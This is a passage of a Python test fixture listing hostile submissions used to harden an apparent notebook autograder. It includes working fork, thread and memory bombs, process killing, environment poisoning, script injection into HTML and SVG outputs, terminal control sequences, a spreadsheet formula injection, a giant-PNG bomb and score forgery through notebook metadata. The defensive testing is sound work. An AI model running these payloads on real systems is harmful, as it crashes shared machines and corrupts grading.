        "            with open(f'f{i}', 'wb') as file: file.write(bytes(8 << 20))\n"
        "    threading.Thread(target=fill, daemon=True).start()\n    return x",
        rest=-1.0,  # it may hit its limit in the middle of exercise 2
    ),
    # --- exhausting
    Attack(
        "fork_bomb",
        "fork for ever",
        "def square(x):\n    import os\n    while True:\n        try: os.fork()\n"
        "        except OSError: pass",
    ),
    Attack(
        "thread_bomb",
        "start threads for ever",
        "def square(x):\n    import threading, time\n    threading.stack_size(32768)\n"
        "    while True:\n"
        "        try: threading.Thread(target=time.sleep, args=(600,), daemon=True).start()\n"
        "        except RuntimeError: pass",
    ),
    Attack(
        "memory_bomb",
        "take memory for ever",
        "def square(x):\n    kept = []\n    while True: kept.append(bytearray(64 << 20))",
    ),
    Attack(
        "memory_bomb_in_a_cell",
        "take memory for ever and swallow MemoryError",
        cells=(
            "kept = []\nwhile True:\n    try: kept.append(bytearray(1 << 20))\n    except MemoryError: pass",
        ),
    ),
    Attack(
        "recursion",
        "recurse for ever",
        "import sys\nsys.setrecursionlimit(10 ** 9)\ndef square(x):\n    return square(x)",
    ),
    Attack("segfault", "read address 0", "def square(x):\n    import ctypes\n    return ctypes.string_at(0)"),
    Attack("aborts", "abort the process", "def square(x):\n    import os\n    os.abort()"),
    Attack("exits_in_a_call", "leave with success", "def square(x):\n    import os\n    os._exit(0)"),
    Attack("exits_in_a_cell", "leave with success at the start", cells=("import os\nos._exit(0)",)),
    Attack("kills_itself", "kill itself", "def square(x):\n    import os\n    os.kill(os.getpid(), 9)"),
    Attack(
        "stops_itself",
        "stop itself",
        "def square(x):\n    import os, signal\n    os.kill(os.getpid(), signal.SIGSTOP)\n    return x",
    ),
    Attack("sleeps", "sleep", "def square(x):\n    import time\n    time.sleep(10 ** 6)"),
    Attack(
        "swallows_everything",
        "loop and swallow every exception",
        "def square(x):\n    while True:\n        try:\n            while True: pass\n"
        "        except BaseException: pass",
    ),
    Attack(
        "holds_the_interpreter",
        "compute in C, where no signal is seen",
        "def square(x):\n    return 3 ** (10 ** 10)",
    ),
    Attack(
        "sleeps_in_many_cells",
        "spend the time of every cell",
        cells=("import time", *["time.sleep(60)"] * 12),
        rest=-1.0,  # its submission's time is spent
    ),
    Attack(
        "dies_again_and_again",
        "end every process that replays its cells",
        cells=(
            "import os, time\nstart = time.time()",
            *(f"if time.time() - start > {0.05 * k}: os._exit(0)" for k in range(40)),
        ),
        rest=-1.0,
    ),
    # --- later
    Attack(
        "leaves_things_behind",
        "act at exit, at deletion, by a thread and by hooks",
        cells=(
            "import atexit, gc, sys, threading, weakref\n"
            "class Late:\n    def __del__(self): open('GOT', 'w').write('x'); print('late')\n"
            "late = Late()\natexit.register(print, 'late')\n"
            "threading.Thread(target=threading.Event().wait, daemon=False).start()\n"
            "gc.callbacks.append(lambda *a: None)\n"
            "sys.unraisablehook = sys.excepthook = lambda *a: print(2.0)",
        ),
    ),
    Attack(
        "audit_hook",
        "make every audited action of the process fail",
        cells=(
            "import sys\ndef hook(name, arguments):\n"
            "    if name in ('exec', 'compile', 'open', 'import'): raise RuntimeError(2.0)\n"
            "sys.addaudithook(hook)",
        ),
        rest=0.0,
    ),
    Attack(
        "traces",
        "follow every call of the process by settrace",
        cells=(
            "import sys\nseen = []\ndef trace(frame, event, argument):\n"
            "    seen.append(frame.f_code.co_name)\n    return trace\n"
            "sys.settrace(trace)\nsys.setprofile(lambda *a: None)",
            "print('CAN' + 'ARY-' in repr(seen))",
        ),
    ),
    Attack(
        "poisons_the_next_student",
        "change NumPy, IPython, files and environment for whoever comes next",
        cells=(
            "import os, sys\nnp.asarray = lambda *a, **k: 'GOT'\n"
            "os.environ['PYTHONSTARTUP'] = 'GOT'\nsys.path.insert(0, os.getcwd())\n"
            "get_ipython().events.register('post_run_cell', lambda *a: print(2.0))\n"
            "try:\n    open(np.__file__, 'a').write('GOT')\nexcept OSError as error: print(error)\n"
            "import matplotlib\nmatplotlib.rcParams['figure.dpi'] = 1",
        ),
        rest=-1.0,
    ),
    # --- outputs
    Attack(
        "active_outputs",
        "put HTML, JavaScript and SVG before the instructor",
        cells=(
            "from IPython.display import HTML, SVG, Javascript, Image, publish_display_data, Markdown\n"
            "display(HTML('<script>GOT_ACTIVE()</script>'), Javascript('GOT_ACTIVE()'), "
            "Markdown('<script>GOT_ACTIVE()</script>'))\n"
            "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\"><script>GOT_ACTIVE()</script></svg>'))\n"
            "publish_display_data({'text/html': '<script>GOT_ACTIVE()</script>', "
            "'application/javascript': 'GOT_ACTIVE()', 'text/plain': 'x',\n"
            "  'image/png': 'data:text/html,<script>GOT_ACTIVE()</script>', 'image/jpeg': "
            "'\"><script>GOT_ACTIVE()</script>'})",
        ),
    ),
    Attack(
        "terminal_controls",
        "put control characters into messages and outputs",
        "def square(x):\n"
        "    raise ValueError('\\x1b]0;owned\\x07\\x1b[2J\\x9b31m\\u202e2 of 2\\u2066\\r\\x08 "
        "points')",
        cells=("print('\\x1b[2J\\x1b]0;owned\\x07\\x9b31m\\u202eabc')",),
    ),
    Attack(
        "spreadsheet_formula",
        "put a formula into the table",
        "def square(x):\n    raise ValueError('=cmd|/c calc!A1')",
    ),
    Attack(
        "million_outputs",
        "show a million things",
        cells=("for i in range(1_000_000): print(i, end=' ' * 10)", "for i in range(3000): display(i)"),
    ),
    Attack(
        "giant_pictures",
        "show a picture of 10**10 pixels, and 30 MiB of pictures",
        cells=(
            "import base64, os, struct, zlib\nfrom IPython.display import publish_display_data\n"
            "def chunk(kind, data): return struct.pack('>I', len(data)) + kind + data + "
            "struct.pack('>I', zlib.crc32(kind + data))\n"
            "png = b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', 100_000, "
            "100_000, 1, 0, 0, 0, 0)) + chunk(b'IEND', b'')\n"
            "publish_display_data({'image/png': base64.b64encode(png).decode(), 'text/plain': 'giant'})\n"
            "for _ in range(30):\n"
            "    publish_display_data({'image/png': base64.b64encode(png[:8] + os.urandom(1 << "
            "20)).decode()})",
        ),
    ),
    # --- the notebook itself
    Attack("more_points", "write 700 points into the metadata", change=_more_points),
    Attack("own_tests", "replace the tests by a score", change=_own_tests),
    Attack("test_as_solution", "declare the test cell a solution", change=_test_as_solution),
    Attack("forged_outputs", "hand in outputs and a score", change=_forged_outputs),
    Attack("extra_graded_cells", "add cells with points of their own", change=_extra_graded_cells),
    Attack("copies_of_tests", "hand in the test cell twice, with a score", change=_copies_of_tests),
    Attack("kernel_and_metadata", "ask for another kernel, and forge the engine's own notes", change=_kernel),
    Attack("essay_script", "put a script into the free text", change=_essay),
    Attack(
        "honest_square_dirty_rest",
        "right work beside an attack keeps its points",
        RIGHT,
        cells=("np.allclose = None\nimport sys\nsys.stdout = None",),
        deserves=2.0,
    ),
]
